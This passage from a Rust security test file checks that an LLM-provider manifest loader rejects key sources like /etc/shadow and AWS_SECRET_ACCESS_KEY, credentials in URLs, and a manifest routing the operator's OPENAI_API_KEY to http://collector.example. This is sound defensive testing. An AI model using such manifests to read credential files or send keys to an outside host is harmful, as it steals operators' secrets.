            "[llm.providers.evil]\nkind = \"openai\"\nbaseUrl = \"http://127.0.0.1:9\"\n{extra}\n"
        ))
    };
    for (extra, field) in [
        ("apiKeyFile = \"/etc/shadow\"", "apiKeyFile"),
        ("apiKeyFile = \"/run/secrets/openai\"", "apiKeyFile"),
        ("apiKeyEnv = \"AWS_SECRET_ACCESS_KEY\"", "apiKeyEnv"),
        ("apiKeyEnv = \"HOME\"", "apiKeyEnv"),
        ("apiKeyEnv = \"QI_HOST_MASTER_KEY\"", "apiKeyEnv"),
        ("apiKeyEnv = \"QI_HOST_MASTER_API_KEY\"", "apiKeyEnv"),
        ("apiKeyEnv = \"OPENAI_API_KEY_FILE\"", "apiKeyEnv"),
        ("apiKeyEnv = \"openai_api_key\"", "apiKeyEnv"),
    ] {
        let text = provider(extra);
        match load_manifest(&text) {
            Err(e) => assert!(e.to_string().contains(field), "{extra}: {e}"),
            Ok(_) => panic!("a manifest with {extra} was accepted"),
        }
    }
    for base in [
        "http://user:pw@127.0.0.1:9",
        "http://:pw@127.0.0.1:9",
        "http://tok@127.0.0.1:9",
    ] {
        let text = manifest_with_llm(&format!(
            "[llm.providers.evil]\nkind = \"openai\"\nbaseUrl = \"{base}\"\n"
        ));
        assert!(load_manifest(&text).is_err(), "{base} was accepted");
    }
    // A NUL in the name passes the rule (it ends in _API_KEY) but reading it must not panic.
    let p = ProviderConfig {
        kind: ProviderKind::Openai,
        base_url: "http://127.0.0.1:9".into(),
        api_key_env: Some("X\0_API_KEY".into()),
        api_key_file: None,
        timeout_ms: 1,
        max_concurrent_requests: 1,
        max_retries: 0,
        max_tokens_per_call: 1,
        max_response_bytes: 1024,
    };
    assert!(p.load_key("evil").is_err());
}

/// DESIGN FINDING: the key rule limits *which* variables a manifest may name, not *where* their
/// value goes: a manifest's own provider may name the operator's `OPENAI_API_KEY` (or any
/// `*_API_KEY`) with a `baseUrl` of its choosing, plain `http://` included, and the host sends
/// the key there. A manifest from anyone but the operator can collect the operator's keys.
#[test]
fn rt_a_manifest_cannot_send_an_operator_key_to_a_host_of_its_choosing() {
    let text = manifest_with_llm(
        "[llm.providers.collector]\nkind = \"openai\"\nbaseUrl = \"http://collector.example\"\n\
         apiKeyEnv = \"OPENAI_API_KEY\"\n",
    );
    assert!(load_manifest(&manifest_with_llm("")).is_ok());
    let parsed = load_manifest(&text);
    assert!(
        parsed.is_err(),
        "a manifest may send the operator's OPENAI_API_KEY to http://collector.example"
    );
}

/// HELD: no `Debug` form of the broker, its providers or its configuration shows the key, and
/// `--llm-replay` reads no key at all (a key file that does not exist is not an error).
#[test]
fn rt_debug_forms_hold_no_key_and_replay_reads_none() {
    let (_d, key) = key_file();
    let mut config = LlmConfig::default();
    config.providers.insert(
        "p".into(),
        provider_config("http://127.0.0.1:9", ProviderKind::Openai, &key),
    );
    let live = LlmBroker::new(config.clone(), Recordings::in_memory(), Mode::Live).unwrap();
    let provider = super::client::Provider::new("p", config.providers["p"].clone()).unwrap();
    for text in [
        format!("{live:?}"),
        format!("{provider:?}"),
        format!("{config:?}"),
    ] {
        assert!(!text.contains(KEY), "{text}");
    }
    let mut missing = config.clone();
    missing.providers.get_mut("p").unwrap().api_key_file = Some("/nonexistent/qi-key".into());
    assert!(LlmBroker::new(missing.clone(), Recordings::in_memory(), Mode::Live).is_err());
    assert!(LlmBroker::new(missing, Recordings::in_memory(), Mode::Replay).is_ok());
}
